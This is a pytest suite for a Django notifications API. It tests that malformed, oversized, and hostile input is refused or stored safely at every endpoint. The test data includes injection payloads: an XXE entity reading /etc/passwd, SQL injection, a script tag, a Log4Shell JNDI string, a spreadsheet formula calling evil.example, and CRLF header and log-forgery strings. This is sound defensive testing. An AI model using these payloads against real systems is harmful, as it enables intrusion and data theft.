"""Bad input of every kind at every door: 4xx in the one shape, nothing stored, others served."""

import io
import json

import jsonschema
import pytest
from django.apps import apps
from django.db import transaction
from django.test import Client

from accounts.models import Access
from hub import openapi
from notifications.models import Notification
from tests.hub.api import bodies, codes
from tests.hub.api.matrix import OPEN, address
from tests.hub.api.routes import routes
from tests.hub.api.world import NOTICE, send

pytestmark = pytest.mark.django_db

LIMIT = 256 * 1024
MODELS = [
    model
    for label in ("accounts", "notifications", "selfserve")
    for model in apps.get_app_config(label).get_models()
    if model is not Access  # who knocks is written down, whatever they bring
]
GUARDED = [route for route in routes() if route.key not in OPEN]


def stored():
    """How many rows there are of everything."""
    return {model._meta.label: model._base_manager.count() for model in MODELS}


@pytest.fixture
def doors(world):
    """Every door that reads a body: how to knock, and a body it would take."""

    def knock(key):
        method, path = key.split(" ")
        caller = bodies.CALLER.get(key, "owner")
        where = address(path, world)
        return lambda body, **headers: world.call(caller, method, where, body, **headers)

    return [(key, knock(key), body) for key, body in bodies.full(world).items()]


@pytest.fixture
def refused(doors):
    """Knock with this at every door: the statuses, after all that every refusal promises."""

    def knock(body, **headers):
        before, got = stored(), set()
        for _, door, _ in doors:
            answer = door(body, **headers)
            got.add((answer.status_code, codes.problem(answer)["code"]))
        assert stored() == before
        return got

    return knock


def nested(depth, inner="1"):
    return ("[" * depth + inner + "]" * depth).encode()


MALFORMED = {
    "nothing but space": b" \n ",
    "half an object": b'{"title": "x"',
    "no JSON at all": b"title=x&kind=notice",
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "two documents": b"{} {}",
    "a comment": b"{} // x",
    "a trailing comma": b'{"a": 1,}',
    "single quotes": b"{'a': 1}",
    "bad UTF-8": b'{"title": "\xff\xfe"}',
    "UTF-8 of a surrogate": b'{"title": "\xed\xa0\x80"}',
    "overlong UTF-8": b'{"title": "\xc0\xaf"}',
    "Latin-1": '{"title": "é"}'.encode("latin-1"),
    "UTF-16": '{"title": "x"}'.encode("utf-16"),
    "UTF-32": '{"title": "x"}'.encode("utf-32"),
    "a byte order mark": b"\xef\xbb\xbf{}",
    "a raw NUL": b'{"title": "a\x00b"}',
    "a raw NUL after the body": b"{}\x00",
    "an escaped NUL": rb'{"title": "a\u0000b"}',
    "an escaped NUL in a key": rb'{"a\u0000b": 1}',
    "a raw line end in a text": b'{"title": "a\nb"}',
    "a lone high surrogate": rb'{"title": "\ud800"}',
    "a lone low surrogate": rb'{"title": "\udfff"}',
    "swapped surrogates": rb'{"title": "\udc00\ud800"}',
    "a lone surrogate in a key": rb'{"\ud800": 1}',
    "a lone surrogate deep down": rb'{"metadata": {"a": [{"b": "\udbff"}]}}',
    "NaN": b'{"n": NaN}',
    "Infinity": b'{"n": Infinity}',
    "minus Infinity": b'{"n": [-Infinity]}',
    "a number beyond 64 bits": b'{"n": 9223372036854775808}',
    "a number of 100,000 digits": b'{"n": ' + b"9" * 100_000 + b"}",
    "a float beyond all": b'{"n": 1e999}',
    "a float with an endless exponent": b'{"n": 1e' + b"9" * 100_000 + b"}",
    "duplicate keys": b'{"title": "a", "title": "b"}',
    "duplicate keys by an escape": rb'{"title": "a", "titl\u0065": "b"}',
    "duplicate keys deep down": b'{"metadata": {"a": [{"b": 1, "b": 2}]}}',
    "depth 1,000": nested(1000),
    "depth 100,000": nested(100_000),
    "depth 100,000 in objects": b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
    "brackets that never close": b"[" * 200_000,
}


def test_every_door_that_reads_a_body_is_tried_here(world):
    paths = openapi.document()["paths"]
    writing = [route for route in routes() if route.method in {"POST", "PUT", "PATCH"}]
    documented = {
        route.key for route in writing if "requestBody" in paths[route.path][route.method.lower()]
    }

    assert {*bodies.full(world), *bodies.FILES} == documented
    assert {route.key for route in writing} - documented == bodies.EMPTY | bodies.BODILESS


@pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED)
def test_a_body_that_can_be_read_in_two_ways_or_in_none_is_refused(refused, body):
    assert {status for status, _ in refused(body)} == {400}


def test_a_body_one_level_too_deep_is_refused(doors):
    for key, door, _ in doors:
        deepest = bodies.MOST_DEPTH.get(key, 20)
        assert door(nested(deepest + 1)).status_code == 400, key
        assert door(nested(deepest)).status_code == 422, key


def test_the_depth_of_the_contract_is_allowed(world):
    body = {**NOTICE, "metadata": {"a": json.loads(nested(18))}}
    answer = world.call("sender", "POST", "/api/v1/notifications", body)

    assert answer.status_code == 202


NOT_OBJECTS = {
    "nothing": b"", "an empty object": b"{}", "an empty list": b"[]", "a list of objects": b"[{}]",
    "null": b"null", "true": b"true", "a number": b"1", "a text": b'"x"', "an empty text": b'""',
    "a number beyond sense": b"-0.0", "a list deep down": nested(20),
}  # fmt: skip


@pytest.mark.parametrize("body", NOT_OBJECTS.values(), ids=NOT_OBJECTS)
def test_json_that_is_no_such_body_is_invalid(refused, body):
    assert refused(body) == {(422, "invalid")}


@pytest.fixture
def knock(world):
    """Send this to a door that wants nothing said: its answer, and nothing of it stays."""

    def send_to(key, body):
        method, path = key.split(" ")
        before = transaction.savepoint_create()
        answer = world.call(bodies.CALLER.get(key, "owner"), method, address(path, world), body)
        transaction.savepoint_rollback(before)
        return answer

    return send_to


@pytest.mark.parametrize("key", sorted(bodies.EMPTY))
def test_where_nothing_has_to_be_said_something_is_refused(knock, key):
    empty = {NOT_OBJECTS["nothing"], NOT_OBJECTS["an empty object"]}
    for body in empty:
        assert codes.problem(knock(key, body))["code"] in {"not_held", "no_endpoint"}
    for body in {*NOT_OBJECTS.values(), b'{"x": 1}'} - empty:
        assert codes.problem(knock(key, body))["code"] == "invalid", body
    for name, body in MALFORMED.items():
        assert knock(key, body).status_code == 400, name


@pytest.mark.parametrize("key", sorted(bodies.BODILESS))
def test_where_no_body_is_read_none_does_harm(knock, key):
    for body in (*NOT_OBJECTS.values(), *MALFORMED.values()):
        assert knock(key, body).status_code in {200, 204}, body[:30]


class Counting(io.RawIOBase):
    """An endless body that counts what was read of it."""

    def __init__(self):
        self.taken = 0

    def read(self, size=-1):
        assert size >= 0, "somebody reads to the end"
        self.taken += size
        return b" " * size


@pytest.mark.parametrize("beyond", [1, 10_000_000, 2**40])
def test_a_body_that_is_too_large_is_refused_before_it_is_read(world, beyond):
    before = stored()
    for key in bodies.full(world):
        method, path = key.split(" ")
        body, most = Counting(), bodies.MOST_BYTES.get(key, LIMIT)
        answer = Client(raise_request_exception=False).generic(
            method, address(path, world), b"x", content_type="application/json",
            headers={"Authorization": f"Bearer {world.tokens[bodies.CALLER.get(key, 'owner')]}"},
            **{"CONTENT_LENGTH": str(most + beyond), "wsgi.input": body},
        )  # fmt: skip
        assert answer.status_code == 413
        assert codes.problem(answer)["code"] == "too_large"
        assert body.taken <= most + 1
    assert stored() == before


def test_a_body_of_exactly_the_limit_is_read(world):
    body = json.dumps(NOTICE).encode()
    answer = world.call("sender", "POST", "/api/v1/notifications", body.ljust(LIMIT))
    assert answer.status_code == 202
    answer = world.call("sender", "POST", "/api/v1/notifications", body.ljust(LIMIT + 1))
    assert answer.status_code == 413


@pytest.mark.parametrize(
    ("content_type", "code"),
    [
        ("text/plain", "unsupported_media_type"),
        ("application/xml", "unsupported_media_type"),
        ("application/x-www-form-urlencoded", "unsupported_media_type"),
        ("multipart/form-data; boundary=x", "unsupported_media_type"),
        ("multipart/form-data", "unsupported_media_type"),
        ("application/jsonx", "unsupported_media_type"),
        ("application/problem+json", "unsupported_media_type"),
        ("", "unsupported_media_type"),
        (";", "unsupported_media_type"),
        ("application", "unsupported_media_type"),
        ("*/*", "unsupported_media_type"),
        ("é/é", "unsupported_media_type"),
        ("x" * 10_000, "unsupported_media_type"),
        ("application/json; charset=utf-16", "unsupported_charset"),
        ("application/json; charset=utf-7", "unsupported_charset"),
        ("application/json; charset=latin-1", "unsupported_charset"),
        ("application/json; charset=idna", "unsupported_charset"),
        ("application/json; charset=zip", "unsupported_charset"),
        ("application/json; charset=no-such-thing", "unsupported_charset"),
        ("application/json; charset=", "unsupported_charset"),
        ('application/json; charset="utf-8"; charset=utf-16', "unsupported_charset"),
    ],
)
def test_a_body_that_is_declared_as_something_else_is_refused(refused, content_type, code):
    assert refused(b"{}", content_type=content_type) == {(415, code)}


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json", "application/json; charset=utf-8",
        'application/json; charset="UTF-8"', "APPLICATION/JSON;charset=Utf-8",
    ],
)  # fmt: skip
def test_json_in_utf_8_is_read_however_it_is_spelt(world, content_type):
    path = "/api/v1/notifications"
    assert world.call("sender", "POST", path, NOTICE, content_type=content_type).status_code == 202


ODD_TEXT = {
    "an override of the direction": "invoice\u202efdp.exe",
    "an embedding": "a\u202ab",
    "an isolate": "a\u2066b\u2069",
    "a storm of combining marks": "Z" + "\u0300" * 100,
    "enclosing marks": "a" + "\u20dd" * 20,
    "a line end": "a\r\nX-Injected: 1",
    "a tab": "a\tb",
    "an escape sequence": "\x1b[2Jgone",
    "a bell": "a\x07",
    "DEL": "a\x7f",
    "a C1 control": "a\x9b31m",
    "a line separator": "a\u2028b",
    "a paragraph separator": "a\u2029b",
}
PLACES = (
    ("facts", 0, "label"),
    ("facts", 0, "value"),
    ("links", 0, "label"),
    ("actions", 0, "label"),
    ("audience", "any", 1, "department"),
    ("audience", "any", 0, "employees", 0),
)
LINES = ("category", "reference", "title", "summary", "requester")


@pytest.mark.parametrize("text", ODD_TEXT.values(), ids=ODD_TEXT)
def test_text_that_shows_as_something_else_is_refused_in_every_line(world, text):
    good, before = bodies.full(world)["POST /api/v1/notifications"], stored()
    spoilt = [{**good, name: text} for name in LINES]
    spoilt += [bodies.spoilt(good, at, text) for at in PLACES]
    spoilt += [{**good, "metadata": {text: 1}}]
    for body in spoilt:
        answer = world.call("sender", "POST", "/api/v1/notifications", body)
        assert (answer.status_code, codes.problem(answer)["code"]) == (422, "invalid")
        assert answer.content.isascii() or text not in answer.content.decode()
    assert stored() == before


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "+1", "-1",
        "<script>alert(1)</script>",
        "'; DROP TABLE notifications_notification; --", "{{7*7}}", "${jndi:ldap://evil}", "%s%n%x",
        "\u0928\u092e\u0938\u094d\u0924\u0947", "\u05e9\u05dc\u05d5\u05dd \u200f\u05e2",
        "👩\u200d👩\u200d👧", "e\u0301", "\U0010ffff", "𐀀",
    ],
)  # fmt: skip
def test_text_that_only_looks_dangerous_is_kept_and_given_back_as_it_is(world, text):
    body = {**NOTICE, "title": text, "reference": text[:100], "metadata": {"opaque": text}}
    answer = world.call("sender", "POST", "/api/v1/notifications", body)
    assert answer.status_code == 202, answer.content

    kept = world.call("sender", "GET", answer.json()["uri"])
    assert kept.json()["reference"] == text[:100]
    assert kept.json()["metadata"] == {"opaque": text}
    assert Notification.objects.get(pk=answer.json()["id"]).card["title"] == text
    assert kept["Content-Type"] == "application/json"
    assert kept["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("name", "most"),
    [("title", 200), ("summary", 500), ("reference", 128), ("category", 64), ("body", 20_000)],
)
def test_a_text_that_is_too_long_is_told_by_its_place(world, name, most):
    for length in (most + 1, LIMIT - 1000):
        answer = world.call(
            "sender", "POST", "/api/v1/notifications", {**NOTICE, name: "x" * length}
        )
        assert answer.status_code == 422
        assert [flaw["pointer"] for flaw in codes.problem(answer)["errors"]] == [f"/{name}"]
        assert len(answer.content) < 2000, "the text does not come back"


def test_a_flaw_of_a_huge_or_odd_key_does_not_send_the_key_back(world):
    for key in ("k" * 100_000, "\u202e", "a\nb", "~/"):
        answer = world.call("sender", "POST", "/api/v1/notifications", {**NOTICE, key: 1})
        assert answer.status_code == 422
        codes.problem(answer)
        assert len(answer.content) < 2000


def test_thousands_of_flaws_are_answered_in_bounded_size(world):
    body = {**NOTICE, **{f"k{number}": number for number in range(12_000)}}
    answer = world.call("sender", "POST", "/api/v1/notifications", body)

    assert answer.status_code == 422
    assert len(codes.problem(answer)["errors"]) <= 100
    ids = {"ids": ["x"] * 40_000, "mark": "read"}
    answer = world.call("owner", "POST", "/api/v1/me/inbox/mark", ids)
    assert len(codes.problem(answer)["errors"]) <= 100


@pytest.mark.parametrize("version", [0, -1, 2**31, 2**63 - 1, -(2**63), 1.5, "1", True, None, []])
def test_a_version_is_a_positive_number(world, version):
    path = f"/api/v1/me/inbox/{world.request.pk}/response"
    answer = world.call("owner", "POST", path, {"verb": "approve", "version": version})

    assert answer.status_code == 422
    assert codes.problem(answer)["errors"][0]["pointer"] == "/version"


KEY = "Idempotency-Key"
ANSWER = {"verb": "approve", "version": 1}


@pytest.mark.parametrize("key", ["", " ", "a b", "é", "x" * 256, "a\tb", "\x7f", "x" * 100_000])
def test_an_idempotency_key_that_is_none_is_refused(world, key):
    before = stored()
    for caller, path, body in (
        ("sender", "/api/v1/notifications", NOTICE),
        ("owner", f"/api/v1/me/inbox/{world.request.pk}/response", ANSWER),
    ):  # fmt: skip
        answer = world.call(caller, "POST", path, body, **{KEY: key})
        assert (answer.status_code, codes.problem(answer)["code"]) == (
            400,
            "idempotency_key_malformed",
        )
    assert stored() == before


NOT_JSON = [
    "text/html",
    "application/xml",
    "image/*",
    "x",
    "application/json2",
    "a/b;q=1",
    ";",
    ",,,",
]


@pytest.mark.parametrize("route", GUARDED, ids=lambda route: route.key)
def test_who_does_not_accept_json_is_told_so(world, route):
    caller = "sender" if "/notifications" in route.path else "owner"
    for accept in NOT_JSON:
        answer = world.call(caller, route.method, address(route.path, world), {}, Accept=accept)
        said = (answer.status_code, codes.problem(answer)["code"])
        assert said == (406, "not_acceptable"), accept


@pytest.mark.parametrize(
    "accept",
    [
        "*/*", "application/*", "text/html, application/json;q=0.1", "application/json; v=2",
        "x" * 5_000 + ", */*",
    ],
)  # fmt: skip
def test_who_accepts_json_among_others_gets_it(world, accept):
    assert world.call("owner", "GET", "/api/v1/me", Accept=accept).status_code == 200


@pytest.mark.parametrize("path", sorted({route.path for route in routes()}))
def test_another_method_is_answered_with_those_that_there_are(world, path):
    there = {route.method for route in routes() if route.path == path}
    caller = "owner" if "/me" in path or "/auth" in path else "sender"
    for method in {"GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "X"} - there:
        answer = world.call(caller, method, address(path, world), b"{}")
        assert (answer.status_code, codes.problem(answer)["code"]) == (405, "method_not_allowed")
        assert there <= set(answer["Allow"].split(", "))


NOWHERE = [
    "/api", "/api/", "/api/v1", "/api/v1/", "/api/v2/me", "/api/v1/me/", "/api/v1/nothing",
    "/api/v1//me", "/api/v1/me/inbox/", "/api/v1/me/inbox/1", "/api/v1/me/inbox/null",
    "/api/v1/me/inbox/%00", "/api/v1/me/inbox/%ff", "/api/v1/me/inbox/../../me",
    "/api/v1/me/inbox/%2e%2e%2fme", "/api/v1/me/inbox/00000000-0000-0000-0000-00000000000g",
    "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000 ",
    "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000%0a",
    "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000%0aSet-Cookie:x",
    "/api/v1/notifications/;DROP", "/api/v1/" + "x" * 10_000, "/api/v1/é", "/api/v1/openapi.json/",
    "/api/v1/me/devices/1/../2", "/API/V1/ME",
]  # fmt: skip


def test_an_address_that_is_none_is_not_found(world):
    for path in NOWHERE:
        for caller in ("nobody", "owner", "sender"):
            answer = world.call(caller, "GET", path)
            assert (answer.status_code, codes.problem(answer)["code"]) == (404, "not_found"), path
            assert b"/api/" not in answer.content, "what was typed does not come back"


LISTS = [
    ("owner", "/api/v1/me/inbox"),
    ("sender", "/api/v1/notifications"),
    ("owner", "/api/v1/me/changes"),
    ("owner", "/api/v1/me/answers"),
    ("sender", "/api/v1/decisions"),
    ("sender", "/api/v1/callbacks"),
    ("owner", "/api/v1/me/submissions"),
]


QUERIES = [
    "after=garbage", "after=%00", "after=a%00b", "after=%F0%9F%92%A9", "after=" + "A" * 301,
    "after=fHw", "after=MjAyNnx4", "after==", "after=", "before=garbage", "since=garbage",
    "since=%00",
    "since=MXwyfDM", "page_size=0", "page_size=-1", "page_size=101", "page_size=1e3",
    "page_size=99999999999999999999", "page_size=x", "page_size=", "page_size=%00",
    "page_size=1&page_size=2", "after=a&after=b", "page_size[]=1", "state=nonsense",
    "state=%00", "state=", "reference=%00", "reference=" + "x" * 129, "category=" + "x" * 65,
    "nonsense=1", "offset=5", "%00=1", "%ff=1", "&".join(f"a{n}=1" for n in range(1001)),
]  # fmt: skip


@pytest.mark.parametrize(("caller", "path"), LISTS)
def test_a_query_that_makes_no_sense_is_refused(world, caller, path):
    for query in QUERIES:
        answer = world.call(caller, "GET", f"{path}?{query}")
        assert answer.status_code in {400, 422}, (query[:50], answer.content)
        assert codes.problem(answer)["code"] in {"invalid", "malformed_request"}


@pytest.mark.parametrize("host", ["evil.example", "testserver@evil", "", "a" * 300, "[::1", "é"])
def test_an_unknown_host_is_refused(world, host):
    for caller, path in (("owner", "/api/v1/me"), ("nobody", "/api/v1/openapi.json")):
        answer = world.call(caller, "GET", path, Host=host)
        assert (answer.status_code, codes.problem(answer)["code"]) == (400, "malformed_request")
        assert b"evil" not in answer.content


@pytest.mark.parametrize(
    "given",
    ['x"}\n{"level": "info"', "a b", "é", "x" * 65, "../../x", "<b>", "\x1b[31m", "a,b", ""],
)
def test_a_request_id_that_could_forge_a_line_of_the_log_is_not_taken_over(world, given, caplog):
    caplog.set_level("INFO")
    answer = world.call("owner", "GET", "/api/v1/me", X_Request_ID=given)

    assert answer.status_code == 200
    assert answer["X-Request-ID"] != given
    assert len(answer["X-Request-ID"]) == 32
    lines = [record.getMessage() for record in caplog.records]
    assert any(answer["X-Request-ID"] in line for line in lines)
    assert not given.strip() or not any(given in line for line in lines)


def test_a_fit_request_id_is_taken_over_in_answers_of_every_kind(world):
    for path, status in (("/api/v1/me", 200), ("/api/v1/nothing", 404), ("/api/v1/me?", 200)):
        answer = world.call("owner", "GET", path, X_Request_ID="Order-66_a.b")
        assert (answer.status_code, answer["X-Request-ID"]) == (status, "Order-66_a.b")


@pytest.mark.parametrize(
    "headers",
    [
        {"X-Forwarded-For": "127.0.0.1, '; DROP"}, {"X-Forwarded-For": "x" * 10_000},
        {"X-Forwarded-Host": "evil.example"}, {"X-HTTP-Method-Override": "DELETE"},
        {"Cookie": "sessionid=x; csrftoken=" + "y" * 5000}, {"Cookie": "é=\x00"},
        {"If-None-Match": '"' + "x" * 5000}, {"If-Match": "*"}, {"Range": "bytes=0-,0-,0-"},
        {"Accept-Language": "x" * 5000}, {"Accept-Language": "../../etc"}, {"Accept-Encoding": "x"},
        {"Content-Encoding": "gzip"}, {"Expect": "x"}, {"X-Forwarded-Proto": "gopher"},
    ],
)  # fmt: skip
def test_odd_headers_change_nothing(world, headers):
    answer = world.call("owner", "GET", "/api/v1/me", **headers)

    assert answer.status_code == 200
    assert answer.json()["employee_id"] == "E1001"


def test_a_session_of_staff_is_no_identity_at_the_doors(world, client, django_user_model):
    staff = django_user_model.objects.create_superuser(username="root", password="x" * 12)
    client.force_login(staff)

    for route in GUARDED:
        answer = client.generic(route.method, address(route.path, world), b"{}")
        assert answer.status_code == 401, route.key


def test_after_all_that_the_others_are_served(world, refused):
    for body in MALFORMED.values():
        refused(body)

    assert world.call("owner", "GET", "/api/v1/me").status_code == 200
    assert world.call("sender", "POST", "/api/v1/notifications", NOTICE).status_code == 202
    assert send(None, "GET", "/api/v1/openapi.json").status_code == 200


def statuses(answer):
    """The answer's, and those of the parts of a batch, each of which is judged for itself."""
    parts = answer.json()["results"] if answer.status_code == 207 else []
    return {answer.status_code, *(part["status"] for part in parts)}


def test_the_document_and_the_doors_agree_on_every_value_of_every_field(world, doors):
    """Each field of each body is given what may be wrong for it; the document tells if it is."""
    made = openapi.document()
    checker = jsonschema.FormatChecker()
    for key, door, good in doors:
        method, path = key.split(" ")
        content = made["paths"][path][method.lower()]["requestBody"]["content"]
        schema = {**content["application/json"]["schema"], "components": made["components"]}
        check = jsonschema.Draft202012Validator(schema, format_checker=checker)
        for at in bodies.places(good):
            for junk in bodies.JUNK:
                body = bodies.spoilt(good, at, junk)
                before = transaction.savepoint_create()
                answer = door(body)
                transaction.savepoint_rollback(before)
                where = (key, at, str(junk)[:30], answer.content[:300])
                if answer.status_code >= 400:
                    codes.problem(answer)
                assert answer.status_code < 500, where
                if not check.is_valid(body):
                    assert 422 in statuses(answer), where
